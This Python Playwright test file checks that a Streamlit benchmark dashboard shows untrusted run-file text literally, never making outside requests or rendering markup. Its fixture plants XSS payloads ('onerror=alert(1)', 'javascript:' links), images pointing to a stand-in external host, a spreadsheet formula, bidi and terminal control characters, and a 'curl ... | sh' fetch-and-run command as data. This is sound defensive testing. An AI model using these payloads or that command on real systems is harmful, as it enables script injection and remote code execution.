"""Text from files is text on every page: in a browser that counts requests, and by what the code of the pages says."""

import ast
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import yaml

from robustbench_sgdm import content
from robustbench_sgdm.store import Run

APP = content.root() / "app"
made_run = content.load_file(content.root() / "benchmarks/support/made_run.py")

AWAY = "http://away.invalid"  # a request to it is one too many
MODELS = [
    "![m](x) :red[m] $m$ ~~m~~ <img src=x onerror=alert(1)>",
    ":material_home: **m** `m` :smile: -> www.away.invalid a@away.invalid",
]
CORRUPTIONS = {
    "<script>alert(1)<!-- :streamlit: [c](javascript:alert(1))": [1, 3],
    "$$c$$ {{c}} =c() #c": [1, 3],
}
FAMILIES = [f"![f]({AWAY}/f.png)", f"\u202e[f]({AWAY}) :blue-background[f] \x1b]8;;{AWAY}\x07\u2066\ud800"]
CLASSES = [f"<img src={AWAY}/c.png>", f"![c]({AWAY}/c.png)", "\u202ecat\u200b", "=HYPERLINK(1)"]
HOSTILE = f"![t]({AWAY}/t.png) <img src={AWAY}/t.png> :material/home: $t$ \x1b[2J\u202e"
SHOWN = f"![t]({AWAY}/t.png) <img src={AWAY}/t.png> :material/home: $t$ \\x1b[2J\\u202e"
PAGES = ("overview", "curves", "images", "live", "training", "paper?table=6", "run")
SETTLED = "[data-testid=stApp][data-test-script-state=notRunning]"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A run all of whose texts are made to be something else; a training of the same kind lies beside it."""
    folder = tmp_path_factory.mktemp("hostile")
    name = f"![r]({AWAY.replace('/', ':')}) :smile: $r$ \u202e"
    run = made_run.make_run(folder, name, MODELS, CORRUPTIONS, images=6, resamples=True, leave=1)
    plan = dict(run.plan)
    plan["command"] = f"curl {AWAY} | sh  # {HOSTILE}"
    plan["data"] = {**plan["data"], "name": HOSTILE, "source": HOSTILE, "truth": HOSTILE, "notes": [HOSTILE]}
    plan["models"] = {
        name: {
            **about,
            "weights": HOSTILE,
            "notes": [HOSTILE],
            "unfound": [HOSTILE],
            "module": HOSTILE,
            HOSTILE: HOSTILE,
        }
        for name, about in plan["models"].items()
    }
    plan["corruptions"] = {
        name: {
            "family": family,
            "summary": HOSTILE,
            "source": HOSTILE,
            "strengths": {"1": HOSTILE, HOSTILE: "=1"},
        }
        for name, family in zip(plan["corruptions"], FAMILIES, strict=True)
    }
    plan |= {part: {HOSTILE: HOSTILE} for part in ("versions", "hardware")}
    plan["settings"] = {**plan["settings"], "device": HOSTILE}
    (run.path / "plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
    made = Run.open(run.path)
    truth = made.truth()
    truth.categories["name"] = CLASSES
    truth.images["file"] = [f"{folder}/![i]({AWAY}:{number}) <b>i.png" for number in range(len(truth.images))]
    truth.write(made.path / "ground_truth", plan["data"]["fingerprint"] + "x")
    plan["data"]["fingerprint"] += "x"
    (run.path / "plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
    rows = [(model, 10.0, 1.0, 1.0, 1.0, HOSTILE) for model in MODELS]
    made.write_latency(
        pd.DataFrame(rows, columns=["model", "milliseconds", "ratio", "low", "high", "device"])
    )
    training = (
        folder / "training" / f"![t]({AWAY.replace('/', ':')}) :smile:" / "<img src=x onerror=alert(1)>"
    )
    training.mkdir(parents=True)
    losses = {
        f"{split}/{loss}_loss": [2.0, 1.0] for split in ("train", "val") for loss in ("box", "cls", "dfl")
    }
    pd.DataFrame({"epoch": [1, 2], **losses}).to_csv(training / "results.csv", index=False)
    (training / "recipe.yaml").write_text(yaml.safe_dump({"model": HOSTILE, "arguments": {"seed": 0}}))
    return Run.open(run.path)


class Watched:
    """A page of the browser that notes every request elsewhere, every dialog and every error."""

    def __init__(self, page: Any, address: str) -> None:
        self.page, self.address = page, address
        self.away: list[str] = []
        page.set_default_timeout(60_000)
        page.on("request", self._request)
        page.on("dialog", self._dialog)

    def _request(self, request: Any) -> None:
        if not request.url.startswith((self.address, self.address.replace("http", "ws"), "data:", "blob:")):
            self.away.append(request.url)

    def _dialog(self, dialog: Any) -> None:
        self.away.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def open(self, path: str) -> str:
        """The text of a page that has come to rest."""
        self.page.goto(f"{self.address}/{path}")
        self.page.locator("[data-testid=stMain] :is(p, label, h3):visible").first.wait_for()
        for _ in range(3):
            self.page.wait_for_timeout(150)
            self.page.wait_for_selector(SETTLED)
        return str(self.page.inner_text("[data-testid=stMain]"))


@pytest.fixture
def watched(browser: Any, app: Callable[..., str], hostile: Run) -> Iterator[Watched]:
    words = ("--training", str(hostile.path.parent / "training"), "--", str(hostile.path))
    context = browser.new_context(viewport={"width": 1280, "height": 900}, reduced_motion="reduce")
    yield Watched(context.new_page(), app(*words))
    context.close()


def test_every_page_shows_text_as_text(watched: Watched) -> None:
    """Nothing is fetched, linked, run or drawn from it; what it says can be read."""
    told = {}
    for path in PAGES:
        told[path.partition("?")[0]] = watched.open(path)
        assert watched.page.locator("[data-testid=stException]").count() == 0, path
        inside = watched.page.locator("[data-testid=stMain]")
        for what in (
            "a[href*=away]",
            "img[src*=away]",
            "a[href^=javascript]",
            "a[href^=mailto]",
            ".katex",
            "del",
        ):
            assert inside.locator(what).count() == 0, f"{path}: {what}"
        assert (
            inside.locator(
                "img[alt='Streamlit logo'], [aria-label='home icon'], script, strong:text-is('m')"
            ).count()
            == 0
        )
        hidden = [c for c in told[path.partition("?")[0]] if c in "\u202e\u2066\u200b\x1b\x07"]
        assert not hidden, f"{path}: {hidden}"
    assert watched.away == []
    for page, texts in {
        "overview": [SHOWN, *MODELS, FAMILIES[0], "\\u202e[f]", "No command can be made"],
        "curves": [FAMILIES[0], CLASSES and next(iter(CORRUPTIONS)), MODELS[0]],
        "images": [MODELS[1], "<b>i.png"],
        "training": ["<img src=x onerror=alert(1)>", "![t]"],
    }.items():
        lines = " ".join(told[page].split())
        for text in texts:
            assert text in lines, f"{page}: {text}"
    assert "curl" not in told["overview"]


def test_a_family_can_be_chosen_whatever_it_is_called(watched: Watched) -> None:
    watched.open("overview")
    watched.page.get_by_role("radio", name=FAMILIES[0], exact=True).click()
    watched.page.wait_for_url(lambda url: "family=" in url)
    watched.open(watched.page.url.removeprefix(f"{watched.address}/"))
    assert watched.page.get_by_role("radio", name=FAMILIES[0], exact=True).is_checked()
    assert watched.away == []
